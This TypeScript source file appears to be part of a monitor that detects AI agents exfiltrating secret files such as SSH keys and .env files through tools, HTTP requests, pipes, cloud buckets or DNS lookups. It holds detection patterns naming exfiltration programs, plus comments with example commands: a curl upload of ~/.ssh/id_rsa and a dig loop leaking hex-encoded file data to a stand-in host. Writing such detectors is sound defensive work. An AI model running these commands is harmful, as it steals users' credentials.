import type { Action } from '../action/action.ts';
import type { HttpRequest, Invocation } from '../action/invocation.ts';
import type { Signal } from '../action/signal.ts';
import type { Analysis } from '../action/verdict.ts';
import { kindOfHost } from '../credentials/kinds.ts';
import { isSecretPath } from '../credentials/paths.ts';
import { hostOf, isLocal, pathOf } from './addresses.ts';
import { carriersWithin } from './carriers.ts';
import { upstreamOf } from './flows.ts';
import { copiedToShare, folderOf, isFolderOfKeys, lookedInto, operandsOf, searchedFor } from './key-folders.ts';
import { cameFrom } from './known-places.ts';
import { isElsewhere, sentToSocket, takesToOthers } from './outlets.ts';
import { absolutePath, asWritten, displayPath, placeKey, textOf } from './places.ts';
import { readIntoBody, readIntoRequest } from './read-into.ts';
import { readToolSignal, unmaskedFiles } from './reading.ts';
import { isSecret } from './secret-copies.ts';
import { signal } from './signals.ts';
import type { SessionState } from './state.ts';
import { filesUploaded } from './tool-sendings.ts';
import { placeNames, uploaders, uploadOf } from './uploads.ts';

/** What a session knows of secret files and their copies. */
type Known = Pick<SessionState, 'credentials' | 'carriers'>;

/** A secret file, or a copy of one, that a tool, a request or a program sends to another place. */
export function sentFile(action: Action, analysis: Analysis, known: Known): Signal | undefined {
  const byTool = action.kind === 'mcp' ? sentByTool(action, known) : undefined;
  if (byTool) return byTool;
  const within = carriersWithin(action, analysis, known);
  const state = within.length === 0 ? known : { ...known, carriers: [...known.carriers, ...within] };
  const byRequest = sentByRequest(action, analysis, state);
  if (byRequest) return byRequest;
  for (const invocation of analysis.invocations) {
    const byProgram = sentByProgram(invocation, action, analysis, state);
    if (byProgram) return byProgram;
  }
  return undefined;
}

function sentByTool(action: Extract<Action, { kind: 'mcp' }>, known: Known): Signal | undefined {
  for (const file of filesUploaded(action)) {
    if (!isSecret(file, { cwd: null }, action, known.carriers) && !isToldOf(file, null, action, known)) continue;
    return signal('exfiltration', 0.8, `Sends ${displayPath(file, null, action)} to another place`, {
      subject: rootFor(file, null, action, known),
    });
  }
  return undefined;
}

/** The body of a request, and what code gives to one. */
function sentByRequest(action: Action, analysis: Analysis, state: Known): Signal | undefined {
  const { carriers } = state;
  const files = analysis.requests.flatMap((one) => (one.body.kind === 'file' && !isLocal(one) ? [one.body.path] : []));
  const isKept = (file: string) =>
    isSecret(file, { cwd: null }, action, carriers) || isToldOf(file, null, action, state);
  const sent = files.filter(isKept);
  const likeliest = lookedInto(sent, null, action, state);
  for (const request of analysis.requests) {
    if (request.given === undefined || isLocal(request)) continue;
    const given = request.given.filter((file) => isKept(file) && !isWhereItBelongs(request, file, action));
    const file = lookedInto(given, null, action, state);
    if (file === undefined) continue;
    // A person's own server, as by `scp`.
    const own = request.url === null && isOwnSettings(file, { cwd: null }, action);
    return signal(
      'exfiltration',
      own ? 0.4 : 0.9,
      `Runs code that sends ${displayPath(file, null, action)} to ${hostOf(request.url)}`,
      {
        span: request.span,
        subject: rootFor(file, null, action, state),
      },
    );
  }
  for (const request of analysis.requests) {
    const { body } = request;
    if (body.kind !== 'file' || body.path !== likeliest || isLocal(request)) continue;
    return signal('exfiltration', 0.9, `Sends ${displayPath(body.path, null, action)} to ${hostOf(request.url)}`, {
      span: request.span,
      subject: rootFor(body.path, null, action, state),
    });
  }
  return undefined;
}

/** Programs that run code which may send what it reads, and those that ask the name's own server. */
const others = new Set('dig nslookup host ping python python3 node deno bun ruby php perl'.split(' '));

function sentByProgram(invocation: Invocation, action: Action, analysis: Analysis, state: Known): Signal | undefined {
  const local = analysis.requests.length > 0 && analysis.requests.every(isLocal);
  const program = invocation.program?.toLowerCase() ?? '';
  const secret = (file: string | undefined, open = true): file is string =>
    file !== undefined &&
    file.length < 1024 &&
    (isSecret(file, invocation, action, state.carriers) ||
      isFolderOfKeys(file, invocation.cwd, action) ||
      (open && isToldOf(file, invocation.cwd, action, state)));
  const socket =
    invocation.redirections.length === 0 ? undefined : sentToSocket(invocation, operandsOf(invocation, action), secret);
  if (socket) return socket;
  const shared = copiedToShare(invocation, action);
  const given = shared?.files.find((file) => isOfPerson(file, invocation, action) && secret(file, false));
  if (shared && given !== undefined)
    return signal('exfiltration', 0.8, `Copies ${given} to ${shared.to}`, {
      span: invocation.span,
      subject: rootFor(given, invocation.cwd, action, state),
    });
  if (!uploaders.has(program) && !others.has(program) && !takesToOthers(invocation)) return undefined;
  const args = invocation.args.map((word) => asWritten(word, action));
  const from = (file: string) => ({ span: invocation.span, subject: rootFor(file, invocation.cwd, action, state) });
  const inserted = readIntoRequest(invocation, secret) ?? readIntoBody(invocation, secret);
  if (inserted !== undefined && !local) {
    return signal('exfiltration', 0.8, `Sends ${inserted} to another place`, from(inserted));
  }
  const searched = searchedFor(invocation, analysis.invocations, action).find((file) => secret(file));
  if (searched !== undefined && !local) {
    return signal('exfiltration', 0.9, `Sends what lies in ${searched} through ${program}`, from(searched));
  }
  const found = uploadOf(program, args, secret, (files) => lookedInto(files, invocation.cwd, action, state));
  if (found && !local) {
    const own = isOwnSettings(found.file, invocation, action) && found.to === 'machine';
    return signal('exfiltration', own ? 0.4 : 0.8, `Sends ${found.file} to ${placeNames[found.to]}`, from(found.file));
  }
  if (local) return undefined;
  const { stdin } = invocation;
  const takes = takesToOthers(invocation);
  if (takes && stdin.kind === 'file' && secret(textOf(stdin.path))) {
    return signal('exfiltration', 0.9, `Sends ${textOf(stdin.path)} through ${program}`, from(textOf(stdin.path)));
  }
  const read = pipedFile(invocation, analysis.invocations, action, { secret, state });
  if (read === undefined) return undefined;
  const own = isOwnSettings(read, invocation, action) && isElsewhere(invocation);
  return signal('exfiltration', own ? 0.4 : 0.9, `Sends ${read} through ${program}`, from(read));
}

/** `curl -T ~/.ssh/id_rsa https://…`: what is sent by its name is read as `cat` reads it. */
export function readInSending(action: Action, { requests, invocations }: Analysis): Signal[] {
  for (const request of requests) {
    const { body } = request;
    if (body.kind !== 'file' || isLocal(request) || isWhereItBelongs(request, body.path, action)) continue;
    // `@secret.json` to a project's own vault is how it gets there.
    if (!isOfPerson(body.path, { cwd: null }, action) && !/(?:^|\/)\.env[^/]*$/.test(body.path)) continue;
    const read = readToolSignal(body.path, action);
    if (read.length > 0) return read;
  }
  // A person's own keys into a bucket; a project's settings are kept in one.
  for (const { program, args, cwd } of invocations) {
    if (!bucketClients.test(program ?? '')) continue;
    const file = args.map((word) => asWritten(word, action)).find((arg) => isOfPerson(arg, { cwd }, action));
    if (file !== undefined) return readToolSignal(file, action);
  }
  return [];
}

const bucketClients = /^(?:aws|gsutil|gcloud|az|rclone|s3cmd|s5cmd|mc)$/;

/** Programs that give on what is in a file, as it is or written otherwise. */
const givesOn =
  /^(?:cat|base64|(?:bsd)?tar|gzip|zip|7z|7za|rar|find|fd|cpio|pax|head|tail|openssl|xxd|grep|gpg|age|xz|zstd|bzip2|pv|jq|get-content|gc|get-item|get-childitem|gci|dir|type)$/;

/** The secret file whose content a program is given by a pipe, or by a variable that was filled from it. */
function pipedFile(
  invocation: Invocation,
  all: readonly Invocation[],
  action: Action,
  { secret, state }: { readonly secret: (file: string | undefined) => file is string; readonly state: Known },
): string | undefined {
  const sources = takesToOthers(invocation) ? upstreamOf(invocation, all, action) : [];
  const computed = invocation.args.some(
    (word, index) =>
      word.kind === 'unknown' && /^-(?:body|form|infile)$/i.test(textOf(invocation.args[index - 1] ?? word)),
  );
  const filled = computed && invocation.dialect === 'pwsh' ? all.filter((one) => one !== invocation) : [];
  for (const source of [...sources, ...filled]) {
    if (!givesOn.test(source.program?.toLowerCase() ?? '')) continue;
    const packed = operandsOf(source, action).filter((file) => secret(file));
    const read = lookedInto(packed, source.cwd, action, state);
    if (read !== undefined) return read;
  }
  // `for part in $(xxd -p f); do dig $part.x.example; done`
  if (
    /^(?:dig|nslookup|host|ping|drill|kdig)$/.test(invocation.program ?? '') &&
    invocation.args.some(({ kind }) => kind === 'unknown')
  )
    for (const one of all) {
      if (one === invocation || !/^(?:xxd|base64|base32|od|hexdump|cat|basenc)$/.test(one.program ?? '')) continue;
      const read = one.args.map((word) => asWritten(word, action)).find((file) => secret(file));
      if (read !== undefined) return read;
    }
  const [first] = sources;
  return first && unmaskedFiles(first, all, action).find((file) => secret(file));
}

/** A login, and a vendor's own place for settings and secrets. */
function isWhereItBelongs({ url, partialUrl }: HttpRequest, file: string, action: Action): boolean {
  const address = url ?? partialUrl?.text ?? '';
  const path = pathOf(address);
  const isVendors = kindOfHost(hostOf(address)) !== undefined;
  // Anybody may call a path so: there a project logs in with one file of its own, and never with all of its settings.
  const mayLogIn = isVendors || !(isOfPerson(file, { cwd: null }, action) || /(?:^|\/)\.env/.test(file));
  if (mayLogIn && /\/(?:oauth2?|tokens?|login|log-in|signin|sign-in|auth\w*|sessions?)(?:[/?.]|$)/i.test(path))
    return true;
  return isVendors && /\/(?:env\w*|secrets?|variables?|config-vars|vault|kv)(?:[/?]|$)/i.test(path);
}

/** Whether a credential was surely seen in a file, whatever its name. */
function isToldOf(file: string, cwd: string | null, action: Action, { credentials }: Known): boolean {
  if (credentials.size === 0 || file === '') return false;
  const key = placeKey(displayPath(file, cwd, action));
  return [...credentials.values()].some(({ foundIn, untold }) => untold !== true && placeKey(foundIn) === key);
}

/** Whether a file or folder is a person's own, and none of the project's. */
function isOfPerson(file: string, { cwd }: Pick<Invocation, 'cwd'>, action: Action): boolean {
  return (
    isFolderOfKeys(file, cwd, action) ||
    (isSecretPath(file) && /^(?:[~/]|\$|%|[A-Za-z]:)/.test(displayPath(file, cwd, action)))
  );
}

/** The file that what is sent came from. */
function rootFor(file: string, cwd: string | null, action: Action, { carriers }: Known): string {
  const plain = folderOf(file);
  return cameFrom(carriers, absolutePath(plain, cwd ?? action.cwd), action) ?? displayPath(plain, cwd, action);
}

/** The task's own settings go to a server the person names: how small projects are deployed. */
function isOwnSettings(file: string, { cwd }: Pick<Invocation, 'cwd'>, action: Action): boolean {
  return /^\.env(?:\.[a-z]+)?$/.test(displayPath(file, cwd, action));
}
